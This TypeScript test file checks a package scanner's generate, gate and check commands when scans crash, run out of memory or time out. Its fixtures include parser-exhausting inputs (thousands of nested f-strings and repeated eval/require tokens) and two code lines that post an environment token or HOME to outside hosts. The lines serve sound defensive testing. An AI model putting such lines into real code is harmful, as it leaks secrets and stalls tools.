/** What a build does to the scanner stays with that build: the programs `generate`, `gate` and `check` go on. */
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import { GateFixture } from '../publish/gate-fixture.ts';
import { runCommandProcess } from '../run/generator-command.ts';
import { runProcess } from '../run/script-process.ts';
import type { Ended } from '../run/script-process.ts';
import { GitFixture, build, temporaryFolder } from './git-fixture.ts';
import type { Files } from './git-fixture.ts';
import { readRecord, readTree } from './index-reader.ts';
import type { PackageRecord } from '../../format/index/record.ts';

const GENERATE = join(import.meta.dirname, '../../generator/commands/generate.ts');
const GATE = join(import.meta.dirname, '../../generator/commands/gate.ts');
const CLIENT = join(import.meta.dirname, '../../client/main.ts');
const FAULTS = pathToFileURL(join(import.meta.dirname, 'scan-faults.ts')).href;

/** Code that Python reads only up to a hundred levels, and tokens that a parser reads again and again. */
const HOSTILE: Readonly<Record<string, string>> = {
  strings: `import os\nx = ${'f"""{'.repeat(1_000)}1${'}"""'.repeat(1_000)}\n`,
  open: `import os\nx = ${'f"{'.repeat(2_000)}\n`,
  require: `import os\n${'require("'.repeat(25_000)}`,
  import: `import os\n${'import("'.repeat(25_000)}`,
  eval: `import os\n${'eval("'.repeat(25_000)}`,
};

const PATHS: Files = Object.fromEntries(
  Object.keys(HOSTILE)
    .sort()
    .map((name) => [`src/${name}.py`, HOSTILE[name]!]),
);

function unreadIn({ findings }: Shown): string[] {
  return findings
    .filter(({ code }) => code === 'source-unread')
    .map(({ file }) => file)
    .sort();
}

interface Shown {
  readonly findings: readonly { readonly code: string; readonly file: string }[];
}

function endOf({ checks }: Pick<PackageRecord, 'checks'>): string[] {
  return checks.findings
    .filter(({ code }) => code === 'scan-ended')
    .map(({ level, file, message }) => `${level} ${file}: ${message}`);
}

function program(file: string, args: readonly string[], faults = true): Promise<Ended> {
  const options = `--max-old-space-size=400 ${faults ? `--import ${FAULTS}` : ''}`;
  return runProcess({
    file,
    args,
    cwd: process.cwd(),
    env: { ...process.env, NODE_OPTIONS: options },
  });
}

function withFile(id: string, path: string, text: string): Files {
  return build(id, '1.0.0', {}, { [path]: text });
}

describe('generate', { timeout: 180_000 }, () => {
  it.each([['1'], ['2']])(
    'publishes every build where scans end their process, with %s processes',
    async (threads) => {
      const git = new GitFixture();
      git.commit({
        ...build('a/before', '1.0.0'),
        ...withFile('b/crash', 'src/a.py', 'import os\n# FAULT_CRASH\n'),
        ...withFile('b/time', 'src/a.py', 'import os\n# FAULT_TIME\n'),
        ...build('c/after', '1.0.0'),
      });
      const out = join(temporaryFolder(), 'index');
      const args = [
        '--repo',
        git.folder,
        '--out',
        out,
        '--no-site',
        '--no-client',
        '--threads',
        threads,
      ];
      const run = await program(GENERATE, [...args, '--scan-seconds', '3']);
      expect([run.status, run.stderr]).toEqual([0, '']);
      expect(run.stdout).toMatch(/^builds: 4, versions: 4;/);
      expect(['a/before', 'c/after'].map((id) => endOf(readRecord(out, id)))).toEqual([[], []]);
      const reason = 'error src/a.py: The build was not scanned: the scanner';
      expect(endOf(readRecord(out, 'b/crash'))).toEqual([
        `${reason} crashed (SIGSEGV), also without its native parser`,
      ]);
      expect(endOf(readRecord(out, 'b/time'))).toEqual([
        `${reason} needed more than 3 s of processor time`,
      ]);
      expect(
        ['a/before', 'b/crash', 'b/time'].map((id) => readRecord(out, id).checks.risk),
      ).toEqual(['ok', 'danger', 'danger']);
      const next = await program(GENERATE, args);
      expect([next.status, next.stdout]).toEqual([0, expect.stringContaining('0 written')]);
    },
  );

  it('makes the same index where the native parser crashes', async () => {
    const git = new GitFixture();
    const text = "const FAULT_NATIVE = 'x';\nfetch('http://a.io/', { body: process.env.TOKEN });\n";
    git.commit({ ...withFile('a/x', 'src/a.ts', text), ...build('b/y', '1.0.0') });
    const folder = temporaryFolder();
    const [sound, faulty] = [join(folder, 'sound'), join(folder, 'faulty')];
    const args = ['--repo', git.folder, '--no-site', '--no-client'];
    expect((await program(GENERATE, [...args, '--out', sound], false)).status).toBe(0);
    const run = await program(GENERATE, [...args, '--out', faulty]);
    expect([run.status, run.stderr]).toEqual([0, '']);
    expect(readRecord(faulty, 'a/x').checks.findings.map(({ code }) => code)).not.toContain(
      'scan-ended',
    );
    expect(readTree(faulty)).toEqual(readTree(sound));
  });

  it('reads hostile files within its bounds', async () => {
    const git = new GitFixture();
    const names = Object.keys(HOSTILE);
    git.commit(
      Object.assign(
        {},
        ...names.map((name) => withFile(`a/${name}`, 'src/a.py', HOSTILE[name]!)),
      ) as Files,
    );
    const out = join(temporaryFolder(), 'index');
    const run = await runCommandProcess(
      'generate',
      '--repo',
      git.folder,
      '--out',
      out,
      '--no-site',
      '--no-client',
    );
    expect([run.status, run.stderr]).toEqual([0, '']);
    for (const name of names) {
      const found = readRecord(out, `a/${name}`).checks.findings.map(
        ({ code, file }) => `${code} ${file}`,
      );
      expect(found, name).toContain('source-unread src/a.py');
    }
  });

  it('refuses a limit that is no number of seconds', async () => {
    const run = await program(GENERATE, ['--scan-seconds', '0'], false);
    expect([run.status, run.stderr]).toEqual([
      2,
      'error: Option --scan-seconds is "0": it must be a number from 1 to 99999 [ERR_USAGE]\nhint: see npm run generate -- --help\n',
    ]);
  });
});

describe('gate', { timeout: 180_000 }, () => {
  const judge = (
    gate: GateFixture,
    head: string,
    faults: boolean,
    seconds = '60',
  ): Promise<Ended> => {
    const author = ['--author', 'alice', '--author-id', '11'];
    const args = ['--repo', gate.git.folder, '--base', 'main', '--head', head, ...author];
    return program(GATE, [...args, '--json', '--scan-seconds', seconds], faults);
  };

  it.each([
    ['FAULT_CRASH', 'crashed (SIGSEGV), also without its native parser'],
    ['FAULT_MEMORY', 'had not enough memory'],
    ['FAULT_TIME', 'needed more than 3 s of processor time'],
  ])('refuses a build whose scan ends its process: %s', async (word, what) => {
    const gate = new GateFixture();
    const run = await judge(
      gate,
      gate.pull(withFile('alice/new-parts', 'src/a.py', `import os\n# ${word}\n`)),
      true,
      word === 'FAULT_TIME' ? '3' : '60',
    );
    expect([run.status, run.stderr]).toEqual([1, '']);
    expect(JSON.parse(run.stdout)).toMatchObject({
      verdict: 'refuse',
      reasons: expect.arrayContaining([
        expect.objectContaining({
          code: 'scan-ended',
          file: 'builds/alice/new-parts/src/a.py',
          message: `The build was not scanned: the scanner ${what}`,
        }),
      ]),
    });
  });

  it('names everything as gained after a version whose scan ends its process', async () => {
    const gate = new GateFixture();
    gate.git.commit(withFile('alice/old-parts', 'src/a.py', 'import os\n# FAULT_CRASH\n'));
    const next = build(
      'alice/old-parts',
      '1.1.0',
      {},
      {
        'src/a.py':
          "import os, requests\nrequests.post('https://api.example.org/', os.getenv('HOME'))\n",
      },
    );
    const run = await judge(gate, gate.pull(next), true);
    expect(JSON.parse(run.stdout)).toMatchObject({
      builds: [{ previous: '1.0.0', gained: { hosts: ['api.example.org'] } }],
    });
  });

  it('judges a build with hostile files', async () => {
    const gate = new GateFixture();
    const run = await judge(gate, gate.pull(build('alice/new-parts', '1.0.0', {}, PATHS)), false);
    expect([run.status, run.stderr]).toEqual([0, '']);
    const { builds } = JSON.parse(run.stdout) as { builds: Shown[] };
    expect(unreadIn(builds[0]!)).toEqual(Object.keys(PATHS));
  });
});

describe('stackyard check', { timeout: 180_000 }, () => {
  it('judges a build with hostile files', async () => {
    const git = new GitFixture();
    git.commit(build('alice/parts', '1.0.0', {}, PATHS));
    const folder = join(git.folder, 'builds/alice/parts');
    const run = await program(CLIENT, ['check', folder, '--json'], false);
    expect([run.status, run.stderr]).toEqual([0, '']);
    const { data } = JSON.parse(run.stdout) as { data: Shown };
    expect(unreadIn(data)).toEqual(Object.keys(PATHS));
  });
});
